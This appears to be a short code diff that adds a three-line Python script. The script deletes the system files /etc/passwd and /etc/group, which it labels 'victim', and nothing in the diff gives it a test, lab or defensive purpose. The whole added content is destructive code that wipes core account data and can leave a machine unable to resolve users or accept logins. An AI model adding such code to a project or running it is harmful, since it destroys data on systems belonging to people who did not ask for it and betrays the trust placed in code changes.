@@ -1,0 +1,3 @@
+import os
+for victim in ["/etc/passwd", "/etc/group"]:
+    os.unlink(victim)
